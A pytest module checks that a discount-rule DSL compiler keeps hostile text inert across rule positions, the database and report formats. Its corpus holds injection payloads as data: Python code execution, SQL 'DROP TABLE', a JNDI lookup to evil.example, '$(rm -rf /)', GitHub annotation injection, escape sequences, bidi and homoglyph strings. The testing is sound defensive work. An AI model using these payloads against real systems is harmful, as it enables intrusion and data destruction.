"""No code from rules, ever: hostile text in every position that takes text.

Every hostile string goes into every position of a rule file that takes
text (rule names, descriptions, discount titles, label names, currency
codes, comments, event, entity and field names). Each combination is either
refused with a diagnostic inside the file, or stays inert data:

- in the compiled code, never: a rule's values are data (its lowered
  record and constants), the arguments of its shape's factory, and the
  generated code (the ``ast``, the code objects' ``co_consts`` /
  ``co_names``) holds none of them;
- in the database, byte for byte (an ``AppliedDiscount`` row written by the
  engine, read back in a fresh session);
- in every output format of ``rulec check``: json and sarif stay valid JSON
  with the text intact, github annotations cannot be injected, and the text
  format prints no raw control or bidirectional character.

The counts of strings × positions tried are asserted at the end, so a
shrinking corpus shows up.
"""

from __future__ import annotations

import ast
import json
import os
import re
import types
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

import rulec
from rulec import cli
from rulec.dsl.compiler import RUNTIME_NAMES
from rulec.dsl.report import Format, render
from rulec.engine.core import sandbox as runtime
from rulec.storage.models import AppliedDiscount, Customer, Label, Order

# ------------------------------------------------------------------ corpus ---

HOSTILE: dict[str, str] = {
    "python-import": "__import__('os').system('x')",
    "python-eval": "eval(compile('1','<x>','exec'))",
    "python-dunder": "().__class__.__bases__[0].__subclasses__()",
    "python-fstring": "{__import__('os')}",
    "sql": "'; DROP TABLE orders; --",
    "sql-quote": '" OR 1=1; --',
    "template": "{{7*7}}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "shell": "$(rm -rf /) `id`",
    "single-quote": "it's",
    "double-quote": 'say "hi"',
    "backslashes": "C:\\temp\\new\\x00\\u202e",
    "newline": "line one\nline two",
    "newline-command": "x\n::error file=a.rules,line=1::injected",
    "cr": "a\rb",
    "crlf": "a\r\nb",
    "nul": "a\x00b",
    "tab": "a\tb",
    "escape-sequence": "\x1b[2J\x1b]0;pwned\x07",
    "c1-control": "a\x85b\x9bc",
    "line-separator": "a\u2028b\u2029c",
    "cyrillic-a": "Customer_VIР",  # Cyrillic 'Р'
    "cyrillic-vip": "Сustomer_VIP",  # Cyrillic 'С'
    "bidi-override": "abc\u202edcba",
    "bidi-isolate": "\u2066admin\u2069",
    "zero-width": "Customer\u200d_VIP\u200b",
    "bom-inside": "a\ufeffb",
    "github-command": "::error::injected%0A::warning::x",
    "github-properties": "a,b:c::d%25",
    "percent": "100% off %s %d %n",
    "html": "<script>alert(1)</script>",
    "emoji-combining": "e\u0301 👩‍👩‍👧 🎉",
    "very-long": "A" * 100_000,
    "very-long-name": "N" * 300,
}

#: Positions that take text, as a rule file with ``{}`` where the text goes.
#: ``quoted`` positions get the text as a string literal (escaped as the
#: language says); the others get it raw.
QUOTED = {
    "rule-name": 'rule {} on order_created then discount 10% "t" end\n',
    "description": 'rule "r" description {} on order_created then discount 10% "t" end\n',
    "discount-title": "on order_created then discount 10% {}\n",
    "fixed-title": "on order_created then discount 5.00 EUR {}\n",
    "currency-string": 'on order_created when order currency = {} then discount 10% "t"\n',
    "in-list-string": 'on order_created when order currency in ("EUR", {}) then discount 1% "t"\n',
}
RAW = {
    "label-declaration": "label {} for customer\n",
    "label-condition": "label Customer_VIP for customer\n"
    'on order_created when customer has label {} then discount 10% "t"\n',
    "label-action": "label Customer_VIP for customer\n"
    "on order_created then add label {} to customer\n",
    "currency-name": 'on order_created when order currency = {} then discount 10% "t"\n',
    "cap-currency": 'on order_created then discount 10% up to 5.00 {} "t"\n',
    "comment": '# {}\non order_created then discount 10% "t"\n',
    "event": 'on {} then discount 10% "t"\n',
    "entity": 'on order_created when {} subtotal > 5 then discount 10% "t"\n',
    "field": 'on order_created when order {} > 5 then discount 10% "t"\n',
    "action-verb": 'on order_created then {} 10% "t"\n',
    "zone": 'on order_created when order created > 2026-01-01 {} then discount 1% "t"\n',
}
POSITIONS = {**QUOTED, **RAW}


def quote(text: str) -> str:
    """A rule-language string literal for ``text``."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def rule_file(position: str, text: str) -> str:
    template = POSITIONS[position]
    return template.replace("{}", quote(text) if position in QUOTED else text)


CASES = [(p, h) for p in POSITIONS for h in HOSTILE]
TRIED: dict[str, set[tuple[str, str]]] = {}


def tried(where: str, position: str, hostile: str) -> None:
    TRIED.setdefault(where, set()).add((position, hostile))


# ------------------------------------------------------- inert or refused ---

#: Characters the text format must never print raw: C0/C1 controls but
#: newline, and the bidirectional and zero-width format characters.
RAW_FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
OURS = re.compile(r"shape_\d+|test|facts|c\d+|_v\d+|_w\d+|_any\d+")


def code_objects(code: types.CodeType) -> list[types.CodeType]:
    out, stack = [], [code]
    while stack:
        c = stack.pop()
        out.append(c)
        stack.extend(k for k in c.co_consts if isinstance(k, types.CodeType))
    return out


def assert_sandboxed(module: rulec.CompiledModule) -> None:
    """No attribute access, no builtins: every name is ours or the runtime's."""
    for node in ast.walk(module.module):
        assert not isinstance(node, ast.Attribute | ast.Import | ast.ImportFrom), ast.dump(node)
        if isinstance(node, ast.Name):
            assert OURS.fullmatch(node.id) or node.id in RUNTIME_NAMES, node.id
        if isinstance(node, ast.Call):
            assert isinstance(node.func, ast.Name) and node.func.id in RUNTIME_NAMES
    for c in code_objects(module.code):
        for name in (*c.co_names, *c.co_varnames, *c.co_freevars, *c.co_cellvars):
            assert OURS.fullmatch(name) or name in RUNTIME_NAMES, (c.co_name, name)


def code_constants(module: rulec.CompiledModule) -> list[object]:
    """Every constant of every code object of the generated code (tuples opened)."""
    out: list[object] = []
    stack: list[object] = [k for c in code_objects(module.code) for k in c.co_consts]
    while stack:
        k = stack.pop()
        if isinstance(k, tuple | frozenset):
            stack.extend(k)
        elif not isinstance(k, types.CodeType):
            out.append(k)
    return out


def data_of(module: rulec.CompiledModule) -> list[object]:
    """Every value of the module's lowered rules: records and constants (sets opened)."""
    out: list[object] = []
    stack: list[object] = [r.record() for r in module.rules]
    stack += [r.lowered.constants for r in module.rules if r.lowered is not None]
    while stack:
        k = stack.pop()
        if isinstance(k, tuple | frozenset):
            stack.extend(k)
        else:
            out.append(k)
    return out


class TestRuntime:
    def test_runtime_exports_exactly_the_compilers_names(self):
        assert sorted(runtime.__all__) == sorted(RUNTIME_NAMES)
        # a new name is a new power for generated code: review it before adding it
        # here (GET_ reads one fact by a constant key; SOME_ runs a compiled
        # condition on each member of a list fact; FS and ANY_ make and test
        # a set of labels; CODE_IN_ tests the codes entered against a family's
        # constant codes and prefixes, with str.startswith only)
        assert set(RUNTIME_NAMES) == {"FS", "ANY_", "CODE_IN_", "GET_", "SOME_"}


GENERATED = {
    "vip": Path(__file__).parents[2] / "rules" / "vip.rules",
    **{p.stem: p for p in sorted((Path(__file__).parents[1] / "golden" / "good").glob("*.rules"))},
}


@pytest.mark.parametrize("path", list(GENERATED.values()), ids=list(GENERATED))
def test_generated_modules_are_sandboxed(path: Path) -> None:
    analysis = rulec.analyze_paths([path])
    if not analysis.ok:  # a golden file for another vocabulary
        pytest.skip("not for the default vocabulary")
    module = rulec.compile_rules(analysis.items[str(path)], rulec.DEFAULT_VOCABULARY, str(path))
    assert_sandboxed(module)


@pytest.mark.parametrize("position", list(POSITIONS))
def test_hostile_text_is_refused_or_inert(position: str) -> None:
    for name in HOSTILE:
        refused_or_inert(position, name)


def refused_or_inert(position: str, name: str) -> None:
    hostile = HOSTILE[name]
    text = rule_file(position, hostile)
    analysis = rulec.analyze_text(text, "hostile.rules")
    lines = text.split("\n")
    for d in analysis.diagnostics:
        assert 1 <= d.span.line <= len(lines)
        assert 1 <= d.span.column <= len(lines[d.span.line - 1]) + 1
    tried("front end", position, name)
    if not analysis.ok:
        return
    module = rulec.compile_text(text, "hostile.rules")
    assert_sandboxed(module)
    tried("compiled code", position, name)
    if position in QUOTED or position == "label-action":
        # the text (as the rule says it) is data of the lowered rule
        assert hostile in data_of(module), position
    # and never part of the generated code
    assert hostile not in module.text
    assert hostile not in code_constants(module)
    names = {n.id for n in ast.walk(module.module) if isinstance(n, ast.Name)}
    assert hostile not in names
    rules = rulec.load_text(text, "hostile.rules")
    for event in ("order_created", "order_updated"):
        rules.evaluate(
            event,
            {
                "customer": {"labels": {hostile}},
                "order": {"subtotal": Decimal("9"), "currency": "EUR"},
            },
        )


def test_nul_is_refused_where_it_would_reach_the_database() -> None:
    for position in ("rule-name", "description", "discount-title", "fixed-title"):
        (d,) = [d for d in rulec.check_text(rule_file(position, "a\x00b")) if d.code == "R101"]
        assert "NUL" in d.message


# ------------------------------------------------ rules made from a shape ---

#: What a string literal in a condition can hold: no NUL (R101), no CR (R106).
LITERALS = {h: v for h, v in HOSTILE.items() if "\x00" not in v and "\r" not in v}


def test_rules_of_one_shape_compare_hostile_text_as_plain_strings(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Rules of one condition shape share one factory, each test a closure over its
    own values: hostile text is one of those values, compared as a plain string,
    never part of the code, and runs nothing."""
    calls: list[object] = []
    monkeypatch.setattr(os, "system", lambda *a: calls.append(a))
    values = list(LITERALS.values())
    labels = [v for v in LITERALS.values() if re.fullmatch(r"\w{1,100}", v)]
    text = f"label {', '.join(labels)}, Customer_VIP for customer\n" + "".join(
        f'rule "r{n}" on order_created when agent name = {quote(v)} then discount 1% "t" end\n'
        for n, v in enumerate(values)
    )
    text += "".join(
        f'rule "l{n}" on order_created when customer has label {v} then discount 1% "t" end\n'
        for n, v in enumerate(labels)
    )
    module = rulec.compile_text(text, "hostile.rules")
    assert len(module.shapes) == 2  # one factory per shape, not per rule
    rules = rulec.load_text(text, "hostile.rules")
    assert len(labels) >= 2 and len(rules) == len(values) + len(labels)
    assert len({r.test.__code__ for r in rules.rules}) == 2
    named = {r.name: r for r in rules.rules}
    for n, value in enumerate(values):
        test = named[f"r{n}"].test
        assert [c.cell_contents for c in test.__closure__ or ()] == [value]
        assert value not in test.__code__.co_consts
        want = [f"r{n}"] + [f"l{m}" for m, v in enumerate(labels) if v == value]
        facts = {"agent.name": value, "customer.labels": {value}}
        assert [r.name for r in rules.matching("order_created", facts)] == want
        for near in (value + " ", repr(value), value.upper(), value[:-1]):
            if near != value:
                assert not test(rulec.flatten_facts({"agent.name": near}))
    for n, label in enumerate(labels):  # look-alikes of Customer_VIP stay other labels
        facts = {"customer.labels": {"Customer_VIP"}}
        assert not named[f"l{n}"].test(rulec.flatten_facts(facts))
        assert [c.cell_contents for c in named[f"l{n}"].test.__closure__ or ()] == [label]
    assert calls == []


# ------------------------------------------------------------- database ---

#: What quoted text can hold: a NUL is refused (above), a CR cannot be written.
STORED = {h: v for h, v in HOSTILE.items() if "\x00" not in v and "\r" not in v}


@pytest.mark.parametrize("name", list(STORED))
def test_titles_and_rule_names_survive_the_database(sessions, name: str) -> None:
    hostile = STORED[name]
    rule_name = hostile[:200]  # R114: longer rule names are refused
    text = (
        f"rule {quote(rule_name)} description {quote(hostile)}\n"
        f"  on order_created then discount 10% {quote(hostile)}\nend\n"
    )
    assert rulec.check_text(text, "hostile.rules") == []
    engine = rulec.Engine(rulec.load_text(text, "hostile.rules"))
    engine.attach(sessions)
    try:
        with sessions.begin() as session:
            order = Order(customer=Customer(name=hostile[:200]), subtotal=Decimal("100.00"))
            session.add(order)
        with sessions() as session:
            (row,) = session.scalars(select(AppliedDiscount)).all()
            assert row.description == hostile
            assert row.rule_name == rule_name
            assert row.amount == Decimal("10.00")
            stored = session.scalars(select(Order)).one()
            assert stored.discount_description == hostile
    finally:
        engine.detach(sessions)
    tried("database", "discount-title", name)
    tried("database", "rule-name", name)


@pytest.mark.parametrize("name", [h for h in STORED if re.fullmatch(r"\w+", STORED[h])])
def test_added_labels_survive_the_database(sessions, name: str) -> None:
    label = STORED[name][:100]  # R114: longer label names are refused
    text = f"label {label} for customer\non order_created then add label {label} to customer\n"
    assert rulec.check_text(text, "hostile.rules") == []
    engine = rulec.Engine(rulec.load_text(text, "hostile.rules"))
    engine.attach(sessions)
    try:
        with sessions.begin() as session:
            session.add(Order(customer=Customer(name="c"), subtotal=Decimal("1.00")))
        with sessions() as session:
            assert session.scalars(select(Label.name)).all() == [label]
    finally:
        engine.detach(sessions)
    tried("database", "label-action", name)


# ---------------------------------------------------------- check output ---


def unescape_github(s: str) -> str:
    return (
        s.replace("%0D", "\r")
        .replace("%0A", "\n")
        .replace("%3A", ":")
        .replace("%2C", ",")
        .replace("%25", "%")
    )


def assert_formats(diagnostics: list[rulec.Diagnostic], texts: dict[str, str]) -> None:
    records = json.loads(render(Format.JSON, diagnostics, texts))
    assert records == [d.to_dict() for d in diagnostics]  # every message intact
    sarif = json.loads(render(Format.SARIF, diagnostics, texts, "0"))
    got = [r["message"]["text"] for r in sarif["runs"][0]["results"]]
    assert got == [d.full_message for d in diagnostics]
    github = render(Format.GITHUB, diagnostics, texts)
    lines = github.split("\n")
    assert lines[-1] == "" and len(lines) == len(diagnostics) + 1
    for line, d in zip(lines, diagnostics, strict=False):
        assert "\r" not in line
        m = re.fullmatch(r"::(error|warning) ([^:]*)::(.*)", line)
        assert m, line
        props = dict(p.split("=", 1) for p in m[2].split(","))
        assert set(props) == {"file", "line", "col", "endLine", "endColumn", "title"}
        assert unescape_github(props["file"]) == d.span.file
        assert unescape_github(m[3]) == d.full_message
    text = render(Format.TEXT, diagnostics, texts)
    assert not RAW_FORBIDDEN.search(text), text[:300]
    assert text.count("\n") <= 3 * len(diagnostics)


@pytest.mark.parametrize("position", list(POSITIONS))
def test_every_output_format_stays_intact(position: str) -> None:
    for name in HOSTILE:
        text = rule_file(position, HOSTILE[name])
        analysis = rulec.analyze_text(text, "hostile.rules")
        assert_formats(list(analysis.diagnostics), analysis.texts())
        tried("report formats", position, name)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_file_names_in_every_format(name: str) -> None:
    path = "rules/" + HOSTILE[name][:200] + ".rules"
    analysis = rulec.analyze_text('on order_craeted then discount 10% "x"\n', path)
    assert [d.code for d in analysis.diagnostics] == ["R201"]
    assert_formats(list(analysis.diagnostics), analysis.texts())
    tried("report formats", "file-name", name)


#: A sample through the real command: every hostile string, a few positions.
CLI_POSITIONS = ["discount-title", "rule-name", "label-declaration", "event", "comment"]


@pytest.mark.parametrize("position", CLI_POSITIONS)
def test_rulec_check_in_every_format(tmp_path: Path, position: str) -> None:
    for name in HOSTILE:
        rulec_check_in_every_format(tmp_path, position, name)


def rulec_check_in_every_format(tmp_path: Path, position: str, name: str) -> None:
    # a misspelt event in every file, so that there is always a diagnostic to show
    text = rule_file(position, HOSTILE[name]) + 'on order_craeted then discount 1% "z"\n'
    path = tmp_path / "hostile.rules"
    path.write_bytes(text.encode("utf-8"))
    for fmt in ("text", "json", "github", "sarif"):
        result = CliRunner().invoke(cli.main, ["check", "--format", fmt, str(path)])
        assert result.exit_code == 1, result.output[-1000:]
        assert "Traceback" not in result.output
        out = result.stdout
        if fmt == "json":
            records = json.loads(out)
            assert "R201" in [r["code"] for r in records]
        elif fmt == "sarif":
            assert json.loads(out)["runs"][0]["results"]
        elif fmt == "github":
            assert "\r" not in out
            assert all(re.match(r"::(error|warning) file=", line) for line in out.split("\n")[:-1])
        else:
            assert not RAW_FORBIDDEN.search(out)
    tried("rulec check", position, name)


def test_how_much_was_tried() -> None:
    """Runs last in this module: the corpus and its reach do not shrink unnoticed."""
    counts = {where: len(pairs) for where, pairs in TRIED.items()}
    print(f"\nhostile strings: {len(HOSTILE)}, positions: {len(POSITIONS)}, tried: {counts}")
    assert len(HOSTILE) >= 30 and len(POSITIONS) >= 15
    assert counts.get("front end", 0) == len(CASES)
    assert counts.get("report formats", 0) == len(CASES) + len(HOSTILE)
    assert counts.get("rulec check", 0) == len(CLI_POSITIONS) * len(HOSTILE)
    assert counts.get("compiled code", 0) > 100
